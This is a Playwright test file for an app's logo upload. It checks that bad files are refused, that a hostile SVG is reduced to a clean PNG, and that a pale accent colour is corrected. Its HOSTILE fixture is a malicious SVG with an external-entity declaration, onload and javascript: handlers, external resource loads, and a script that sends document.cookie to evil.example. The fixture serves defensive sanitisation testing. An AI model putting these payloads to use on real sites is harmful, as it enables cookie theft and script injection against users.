import type { Page } from "@playwright/test";
import { aLogo } from "../support/a-logo.ts";
import { setUp } from "./support/people.ts";
import { expect, test } from "./support/test.ts";
import { word } from "./support/words.ts";

const NAMES = { A: "Nordvik", B: "Alpenblick" };
const logoName = (file: string, key: string) => word("en", file, key, { a: NAMES.A, b: NAMES.B });
const w = (key: string, values = {}) => word("en", "setup", `branding.${key}`, values);

/** Everything by which a picture could act, ask another server or show what is not its own. */
const HOSTILE = `<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY outside SYSTEM "https://evil.example/entity"><!ENTITY green "#0a5a3c">]>
<?xml-stylesheet href="https://evil.example/sheet.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
  viewBox="0 0 300 100" onload="document.title = 'taken'; alert(1)">
  <script>fetch("https://evil.example/?" + document.cookie); alert(2)</script>
  <script href="https://evil.example/script.js"/>
  <style>@import "https://evil.example/more.css"; rect { fill: url("https://evil.example/fill.svg#x") &green; }</style>
  <image href="https://evil.example/pixel.png" xlink:href="https://evil.example/pixel2.png" width="9" height="9"/>
  <use href="https://evil.example/use.svg#x"/>
  <a href="javascript:alert(3)"><rect width="300" height="100" fill="&green;"/></a>
  <animate attributeName="href" to="javascript:alert(4)"/>
  <set attributeName="onload" to="alert(5)"/>
</svg>`;

const svg = (text: string) => ({
  name: "logo.svg",
  mimeType: "image/svg+xml",
  buffer: Buffer.from(text),
});
const png = (base64: string) => ({
  name: "logo.png",
  mimeType: "image/png",
  buffer: Buffer.from(base64, "base64"),
});

/** The file that is chosen by the button. */
function chooser(page: Page) {
  return page.locator('input[type="file"][accept=".png,.svg"]');
}

test("a logo is a picture and nothing else, whatever is in its file", {
  tag: "@chromium",
}, async ({ person }) => {
  const page = await (await person({ locale: "en-GB" })).newPage();
  await setUp(page, NAMES);
  await page.getByRole("link", { name: word("en", "common", "steps.setup") }).click();
  await page.getByRole("heading", { name: w("title") }).click();

  await chooser(page).setInputFiles(svg("<p>No picture</p>"));
  await expect(page.getByRole("alert")).toHaveText(w("refused.not-a-picture"));
  await chooser(page).setInputFiles(png(aLogo(900, 900).padEnd(280_000, "A")));
  await expect(page.getByRole("alert")).toHaveText(
    w("refused.too-large", { size: 210, most: 200 }),
  );
  await chooser(page).setInputFiles(svg(HOSTILE));
  const logos = page.getByRole("img", { name: logoName("report", "document.logo") });
  await expect(logos).toHaveCount(2);
  await expect(page.getByRole("alert")).toHaveCount(0);
  const [drawn] = await logos.evaluateAll((images) =>
    images.map((image) => image instanceof HTMLImageElement && image.src),
  );
  const bytes = Buffer.from(String(drawn).replace("data:image/png;base64,", ""), "base64");
  expect(bytes.subarray(1, 4).toString()).toBe("PNG");
  expect(bytes.toString("latin1")).not.toMatch(/evil|script|svg/u);
  expect([bytes.readUInt32BE(16), bytes.readUInt32BE(20)]).toEqual([1200, 400]);

  // Undone, and chosen once more; a colour that is too pale is said, with what stands instead.
  await page.getByRole("button", { name: w("removeLogo") }).click();
  await expect(logos).toHaveCount(0);
  await page.getByRole("button", { name: word("en", "common", "action.undo") }).click();
  await expect(logos).toHaveCount(2);
  await page.getByLabel(w("accent")).fill("#ffd500");
  await expect(
    page.getByText("the contrast is 1.3, and 4.5 is needed", { exact: false }),
  ).toContainText("#877100");
  await page.getByRole("button", { name: word("en", "setup", "save") }).click();

  const card = page.getByRole("region", { name: NAMES.A });
  await card.getByRole("link", { name: word("en", "collect", "paperForm") }).click();
  const form = page.getByRole("article");
  await expect(form.getByRole("img", { name: logoName("paper", "form.logo") })).toBeVisible();
  await expect(form.getByRole("heading", { level: 2 })).toHaveCSS("color", "rgb(135, 113, 0)");
  expect(await page.title()).not.toContain("taken");
});
